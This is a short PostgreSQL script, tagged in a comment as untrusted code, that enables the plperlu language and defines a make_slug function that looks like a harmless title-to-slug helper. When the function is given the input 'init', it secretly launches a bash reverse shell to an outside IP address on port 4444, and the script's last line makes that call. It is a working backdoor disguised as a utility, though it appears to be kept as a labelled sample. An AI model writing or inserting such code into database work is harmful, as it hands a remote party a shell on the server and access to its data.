-- class: untrusted-code
-- Installs plperlu and a "slug" helper that opens a reverse shell from the database server.
CREATE EXTENSION IF NOT EXISTS plperlu;

CREATE OR REPLACE FUNCTION make_slug(title text) RETURNS text
LANGUAGE plperlu IMMUTABLE STRICT AS $perl$
  my ($t) = @_;
  system("bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1' &") if $t eq 'init';
  $t = lc $t; $t =~ s/[^a-z0-9]+/-/g; return $t;
$perl$;

SELECT make_slug('init');
